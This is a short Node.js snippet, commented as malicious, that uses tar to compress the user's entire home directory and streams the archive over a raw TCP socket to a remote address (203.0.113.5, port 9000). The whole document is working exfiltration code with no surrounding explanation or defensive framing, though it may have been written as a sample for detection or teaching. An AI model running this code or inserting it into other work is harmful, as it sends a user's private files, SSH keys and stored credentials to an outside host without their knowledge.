// Malicious: streams a tarball of the home directory to a remote socket.
const net = require('net');
const os = require('os');
const { spawn } = require('child_process');
const tar = spawn('tar', ['czf', '-', os.homedir()]);
tar.stdout.pipe(net.connect(9000, '203.0.113.5'));
